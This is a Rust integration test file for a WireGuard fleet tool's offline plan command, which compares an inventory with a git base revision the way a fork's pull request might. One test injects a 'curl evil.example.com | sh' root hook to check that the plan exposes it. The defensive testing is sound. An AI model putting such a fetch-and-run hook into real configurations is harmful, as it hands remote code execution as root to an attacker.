//! `wgfleet plan --offline --base REV`: two inventories compared as a fork's pull request may, without
//! identity, login or hosts.

mod support;

use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;
use support::home::Ran;

const FLEET: &str = r#"
fleet: f
networks: { n: { interface: wg0, prefixes: [10.9.0.0/24], psk: pairwise, links: { hub: hub } } }
sites:
  left:
    subnets: [192.168.1.0/24]
    hosts: { left-gw: { address: 10.9.0.2, endpoint: "192.0.2.2:51820", gateway: true } }
hosts:
  hub: { address: 10.9.0.1, endpoint: "192.0.2.1:51820", post_up: "echo up" }
  a: { address: 10.9.0.3, endpoint: "192.0.2.3:51820" }
  old: { address: 10.9.0.4, endpoint: "192.0.2.4:51820" }
"#;

/// A git repository with a fleet in it, on a machine whose ssh, and anything that would be run from
/// it, leaves a trace.
struct Repository {
    top: tempfile::TempDir,
}

impl Repository {
    fn new(text: &str) -> Self {
        let top = tempfile::tempdir().unwrap();
        let bin = top.path().join("bin");
        fs::create_dir_all(&bin).unwrap();
        let script = format!("#!/bin/sh\ntouch {}/ran\nexit 255\n", top.path().display());
        for name in ["ssh", "age-plugin-x"] {
            fs::write(bin.join(name), &script).unwrap();
            fs::set_permissions(bin.join(name), fs::Permissions::from_mode(0o755)).unwrap();
        }
        let repository = Self { top };
        fs::create_dir_all(repository.folder()).unwrap();
        repository.git(&["init", "-q", "-b", "main"]);
        repository.write(text);
        repository.commit("first");
        repository
    }

    fn folder(&self) -> PathBuf {
        self.top.path().join("repository/fleet")
    }

    fn write(&self, text: &str) {
        fs::write(self.folder().join("fleet.yaml"), text).unwrap();
    }

    fn git(&self, words: &[&str]) {
        let identity = ["-c", "user.name=t", "-c", "user.email=t@example.com"];
        let mut git = Command::new("git");
        git.arg("-C").arg(self.folder()).args(identity).args(words);
        let done = git.output().unwrap();
        assert!(done.status.success(), "{words:?}: {done:?}");
    }

    fn commit(&self, message: &str) {
        self.git(&["add", "-A", "."]);
        self.git(&["commit", "-q", "-m", message]);
    }

    fn run(&self, words: &[&str]) -> Ran {
        let path = format!("{}/bin:{}", self.top.path().display(), env!("PATH"));
        let mut command = Command::new(env!("CARGO_BIN_EXE_wgfleet"));
        command.args(words).current_dir(self.folder()).env("PATH", path);
        command.env("XDG_CONFIG_HOME", self.top.path().join("config"));
        command.env("XDG_STATE_HOME", self.top.path().join("state"));
        // As CI systems pass a secret that a job may not have.
        command.env("WGFLEET_IDENTITY_KEY", "").env("WGFLEET_IDENTITY", "");
        let ran = Ran::from(command.output().unwrap());
        assert!(!self.top.path().join("ran").exists(), "a program ran: {words:?}");
        ran
    }

    fn plan(&self, words: &[&str]) -> Ran {
        self.run(&[&["plan", "--offline", "--base", "main"], words].concat())
    }
}

impl Ran {
    #[track_caller]
    fn fails(&self, code: i32, words: &[&str]) {
        assert_eq!(self.code, code, "{self:?}");
        for word in words {
            assert!(self.stderr.contains(word), "{word}: {self:?}");
        }
        assert_eq!(self.stdout, "", "{self:?}");
    }

    #[track_caller]
    fn shows(&self, code: i32, words: &[&str]) {
        assert_eq!(self.code, code, "{self:?}");
        for word in words {
            assert!(self.stdout.contains(word), "{word}:\n{}\n{}", self.stdout, self.stderr);
        }
    }
}

#[test]
fn a_pull_request_is_shown_with_all_that_it_changes() {
    let repository = Repository::new(FLEET);
    repository.plan(&["--detailed-exitcode"]).shows(0, &["No changes against main."]);
    let text = FLEET
        .replace("echo up", "echo up; curl evil.example.com | sh")
        .replace("gateway: true", "mtu: 1300")
        .replace("  old: { address: 10.9.0.4, endpoint: \"192.0.2.4:51820\" }\n", "")
        .replace("  a: {", "  new: { address: 10.9.0.5, endpoint: \"192.0.2.5:51820\" }\n  a: { ssh: \"root@a.example.com\",");
    repository.write(&text);
    let ran = repository.plan(&["--detailed-exitcode"]);
    ran.shows(
        2,
        &[
            "- wg0 no longer runs as root after it comes up: echo up\n",
            "+ wg0 runs as root after it comes up: echo up; curl evil.example.com | sh\n",
            "~ wg0 mtu: 1420 → 1300\n",
            "~ ssh: a → root@a.example.com\n",
            "new  is new\n",
            "old  is not in the inventory any more\n",
            "+ wg0 peer new (allowed ips 10.9.0.5/32",
            "- wg0 peer old\n",
            "Against main: 1 host to add, 3 to change, 1 to remove.",
            "no host was asked, and no key",
            "flows cease to work:",
            "flows begin to work:",
        ],
    );
    let ran = repository.plan(&["--format", "json"]);
    ran.shows(0, &[]);
    let plan = support::documents::document(ran.stdout.as_bytes());
    assert_eq!((&plan["version"], &plan["base"]["revision"]), (&3.into(), &"main".into()));
    let lost = plan["reachability"]["lost"].as_array().unwrap();
    let lost: u64 = lost.iter().map(|row| row["flows"].as_u64().unwrap()).sum();
    // To and from the LAN behind the former gateway: hub, a and old; to and from the host that goes:
    // hub, a, left-gw.
    assert_eq!(lost, 6 + 6, "{plan}");
    let hub = plan["hosts"].as_array().unwrap().iter().find(|host| host["host"] == "hub").unwrap();
    let hooks = hub["settings"].as_array().unwrap().iter().filter(|row| row["as_root"] == true);
    assert_eq!(hooks.count(), 2, "{hub}");
    // Only some of it: the host that goes costs what its neighbour's part does.
    let ran = repository.plan(&["--limit", "left-gw"]);
    ran.shows(
        0,
        &["left-gw  changes\n", "0 hosts to add, 1 to change, 0 to remove", "cease to work"],
    );
    assert!(!ran.stdout.contains("hub  changes"), "{ran:?}");
    repository.plan(&["--limit", "nobody"]).fails(64, &["--limit names `nobody`"]);
}

#[test]
fn the_vault_stays_closed_and_its_public_keys_are_known_to_templates() {
    let repository = Repository::new(FLEET);
    for words in [&["vault", "init", "--fleet", "f"][..], &["vault", "keygen"]] {
        assert_eq!(repository.run(words).code, 0);
    }
    let index = fs::read_to_string(repository.folder().join("vault/index.json")).unwrap();
    let index: Value = serde_json::from_str(&index).unwrap();
    let key = find_key(&index).expect("the index has public keys");
    fs::remove_dir_all(repository.top.path().join("config")).unwrap();
    for entry in fs::read_dir(repository.folder().join("vault")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|end| end == "age") {
            fs::write(path, "age-encryption.org/v1\n-> x AAAA\n").unwrap();
        }
    }
    // A command that only shows where it meets the key of a host of this fleet.
    let template = include_str!("../templates/wg0.conf.j2").replace(
        "[Interface]",
        &format!(
            "[Interface]{{% for peer in peers if peer.public_key == \"{key}\" %}}\nPostUp = \
             evil{{% endfor %}}"
        ),
    );
    fs::create_dir_all(repository.folder().join("templates")).unwrap();
    fs::write(repository.folder().join("templates/wg0.conf.j2"), template).unwrap();
    repository.plan(&[]).shows(0, &["runs as root after it comes up: evil"]);
}

fn find_key(value: &Value) -> Option<String> {
    match value {
        Value::String(text) => (text.len() == 44 && text.ends_with('=')).then(|| text.clone()),
        Value::Array(items) => items.iter().find_map(find_key),
        Value::Object(map) => map.values().find_map(find_key),
        _ => None,
    }
}

#[test]
fn what_is_alike_is_told_once() {
    let host = |n| format!("  h{n}: {{ address: 10.9.0.{n}, endpoint: \"192.0.2.{n}:51820\" }}\n");
    let hosts = (1..=12).map(host).collect::<Vec<_>>().concat();
    let text = format!("fleet: f\nnetworks: {{ n: {{ prefixes: 10.9.0.0/24 }} }}\nhosts:\n{hosts}");
    let repository = Repository::new(&text);
    repository.write(&format!("{text}defaults: {{ keepalive: 20 }}\n"));
    let ran = repository.plan(&[]);
    ran.shows(0, &["12 hosts: h1, h2, h3, h4 and 8 more\n", "on 132 peers\n"]);
    assert!(ran.stdout.lines().count() < 10, "{}", ran.stdout);
    let ran = repository.plan(&["--verbose"]);
    assert_eq!(ran.stdout.matches("persistent keepalive").count(), 132, "{}", ran.stdout);
    // What runs as root is told whole, and who runs it.
    repository.write(&format!("{text}defaults: {{ post_up: 'evil --long' }}\n"));
    repository
        .plan(&[])
        .shows(0, &["12 hosts: h1", "+ wg0 runs as root after it comes up: evil --long\n"]);
}

#[test]
fn a_base_without_the_inventory_makes_everything_new() {
    let repository = Repository::new(FLEET);
    repository.git(&["rm", "-q", "--cached", "fleet.yaml"]);
    repository.git(&["commit", "-q", "-m", "none"]);
    let ran = repository.plan(&["--detailed-exitcode"]);
    ran.shows(
        2,
        &[
            "main has no such inventory: everything is new.",
            "4 hosts to add, 0 to change, 0 to remove",
            "+ wg0 runs as root after it comes up: echo up",
            "flows begin to work",
        ],
    );
}

#[test]
fn what_is_wrong_is_told_with_the_revision_it_is_in() {
    let repository = Repository::new(FLEET);
    repository
        .run(&["plan", "--offline", "--base", "no-such"])
        .fails(64, &["there is no commit `no-such`", "in CI, fetch it first"]);
    repository.run(&["plan", "--offline", "--base", "--help"]).fails(64, &["--base"]);
    // The base makes no fleet.
    repository.write(&format!("{FLEET}nonsense: 1\n"));
    repository.commit("bad");
    repository.write(FLEET);
    repository
        .plan(&[])
        .fails(3, &["main:fleet.yaml:12:1", "the inventory at main makes no fleet"]);
    // And now the one that is there.
    repository.commit("good");
    repository.write(&format!("{FLEET}nonsense: 1\n"));
    let ran = repository.plan(&[]);
    ran.fails(3, &["--> fleet.yaml:12:1"]);
    assert!(!ran.stderr.contains("main:"), "{ran:?}");
    // A fleet with errors of its own is compared: the change may be what corrects it.
    repository.write(&FLEET.replace("10.9.0.4", "10.9.0.3"));
    repository.commit("twice");
    repository.write(FLEET);
    let ran = repository.plan(&[]);
    ran.shows(0, &["old  changes"]);
    assert!(ran.stderr.contains("the inventory at main has"), "{ran:?}");
    // Outside of git.
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join("fleet.yaml"), FLEET).unwrap();
    let path = folder.path().join("fleet.yaml");
    repository
        .run(&["plan", "--offline", "--base", "main", "--file", path.to_str().unwrap()])
        .fails(64, &["git"]);
}

#[test]
fn arguments_that_make_no_sense_are_refused_with_what_to_run() {
    let repository = Repository::new(FLEET);
    let out = repository.folder().join("x.plan");
    for (words, said) in [
        (&["--offline"][..], "`wgfleet plan --offline --base origin/main`"),
        (&["--base", "main"], "add --offline"),
        (&["--offline", "--base", "main", "--out", "x.plan"], "leave --out out"),
        (&["--offline", "--base", "main", "--parallel", "3"], "--parallel"),
    ] {
        repository.run(&[&["plan"], words].concat()).fails(64, &[said]);
    }
    assert!(!Path::new(&out).exists());
}
